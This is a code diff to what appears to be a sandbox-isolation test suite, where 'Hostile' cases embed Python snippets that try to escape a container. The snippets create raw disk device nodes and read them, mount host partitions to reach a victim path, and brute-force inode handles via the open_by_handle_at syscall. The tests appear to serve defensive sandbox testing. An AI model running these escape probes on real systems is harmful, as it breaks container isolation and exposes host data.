@@ -119,7 +119,7 @@ for fd in range(3, 1024):
         "make a disk's device, and read it",
         READ
         + FIND
-        + "import stat\nfor line in open('/proc/partitions').read().split('\\n')[2:]:\n    if line:\n        major, minor = map(int, line.split()[:2])\n        try: os.mknod('/tmp/disk', 0o600 | stat.S_IFBLK, os.makedev(major, minor))\n        except OSError: continue\n        look('/tmp/disk', 1 << 26)\n        os.unlink('/tmp/disk')",
+        + "import stat\nfor name, major, minor in facts['disks']:\n    try: os.mknod('/tmp/disk', 0o600 | stat.S_IFBLK, os.makedev(major, minor))\n    except OSError: continue\n    look('/tmp/disk', 1 << 26)\n    os.unlink('/tmp/disk')",
     ),
     Hostile(
         "host's memory",
@@ -269,10 +269,9 @@ int main() {
         + NAMESPACES
         + """
 os.makedirs('/tmp/m', exist_ok=True)
-for line in open('/proc/partitions').read().split('\\n')[2:]:
-    if line:
-        for kind in (b'ext4', b'xfs', b'btrfs'):
-            libc.mount(b'/dev/' + line.split()[3].encode(), b'/tmp/m', kind, 1, None)
+for name, major, minor in facts['disks']:
+    for kind in (b'ext4', b'xfs', b'btrfs'):
+        libc.mount(b'/dev/' + name.encode(), b'/tmp/m', kind, 1, None)
 look('/tmp/m' + facts['victim'])
 for source, target, kind, flags in ((b'/', b'/tmp/m', None, 4096 | 16384), (b'proc', b'/tmp/m', b'proc', 0), (b'sysfs', b'/tmp/m', b'sysfs', 0), (b'none', b'/', None, 32), (b'none', b'/usr', None, 32 | 4096), (b'cgroup', b'/tmp/m', b'cgroup', 0)):
     libc.mount(source, target, kind, flags, None)
@@ -344,7 +343,8 @@ buffer = ctypes.create_string_buffer(4096)
 for number in (250, 321, 298, 425, 323, 246, 175, 313, 172, 173):
     libc.syscall(number, 0, buffer, 128, 0, 0)
 for root in ('/', '/usr', '/tmp', '/proc'):
-    fd = os.open(root, os.O_RDONLY)
+    try: fd = os.open(root, os.O_RDONLY)
+    except OSError: continue
     for inode in range(1, 64):
         handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0]) + inode.to_bytes(4, 'little') + bytes(4))
         got = libc.syscall(304, fd, handle, 0)
